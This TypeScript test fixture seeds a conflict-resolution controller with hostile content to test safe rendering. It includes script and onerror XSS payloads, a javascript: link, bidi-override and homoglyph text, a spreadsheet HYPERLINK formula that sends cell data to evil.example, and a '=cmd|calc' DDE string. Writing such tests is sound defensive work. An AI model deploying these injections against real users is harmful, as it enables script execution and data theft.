// A space of texts that attack whoever shows them: markup, links that run, keys of JSON, characters that are not seen, and
// cells that a spreadsheet would run. Each that could run leaves its mark in `window.hit`.
import { createController } from '../../src/controller/controller.ts';
import type { Store } from '../../src/stores/store.ts';

export const MARKUP = '<script>window.hit="script"</script><img src=x onerror="window.hit=\'img\'">';
export const LINK = 'javascript:window.hit="link"';
/** A right-to-left override, a zero-width space, and a Cyrillic letter that looks like a Latin one. */
export const UNSEEN = 'if access != "us\u202eer\u2066 // admin\u2069 \u2066"\u200b then p\u0430ss';
export const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")';

/** A conflict on a page of markup, one on JSON whose keys are markup, and a history of such agents' names and notes. */
export async function fillHostile(store: Store): Promise<void> {
  const entente = createController({ store });
  const rules = [
    ['<img src=x onerror=window.hit=2>/**', 'escalate'],
    ['**', 'merge(auto)'],
  ] as const;
  await entente.setPolicy({ rules }, { agent: 'ann', revision: 0 });
  const clash = async (resource: string, base: string, one: string, two: string, agent: string): Promise<void> => {
    const first = await entente.begin(resource, { agent });
    await entente.commitOrResolve(first.token, { content: base }, { note: MARKUP });
    const [a, b] = [await entente.begin(resource, { agent }), await entente.begin(resource, { agent: 'bob' })];
    await entente.commitOrResolve(a.token, { content: one }, { note: `${MARKUP} ${LINK}` });
    await entente.commitOrResolve(b.token, { content: two }, { note: FORMULA });
  };
  await clash(
    'notes/<img src=x onerror=window.hit=1>.md',
    '# A\n\nbase\n',
    `# A\n\n${MARKUP}\n[x](${LINK})\n`,
    '# A\n\nother\n',
    '<b>bold</b>',
  );
  const json = (value: string): string => `${JSON.stringify({ [MARKUP]: value, __proto__x: 1 }, undefined, 2)}\n`;
  await clash('config/keys.json', json('base'), json(MARKUP), json(LINK), '=cmd|calc');
  await clash('notes/unseen.md', 'base\n', `${UNSEEN}\n`, 'other\n', 'p\u0430ul');
}
